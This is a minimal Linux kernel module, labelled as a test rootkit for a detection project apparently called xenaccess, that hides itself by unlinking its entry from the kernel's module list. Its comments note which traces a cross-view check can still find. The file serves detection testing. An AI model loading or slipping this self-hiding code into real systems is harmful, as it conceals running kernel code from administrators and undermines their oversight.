/* Test rootkit (a): hides itself by unlinking its struct module from the
 * kernel's module list (the Diamorphine / adore-ng technique). Its kobject
 * in /sys/module and its kallsyms stay, which is what a cross view sees. */
#include <linux/module.h>
#include <linux/list.h>

static int __init rk_hidemod_init(void)
{
    list_del(&THIS_MODULE->list);
    pr_info("rk_hidemod: unlinked from the module list\n");
    return 0;
}
module_init(rk_hidemod_init);
/* no exit: once unlinked the module can never be removed */
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("xenaccess test rootkit: module list unlink");
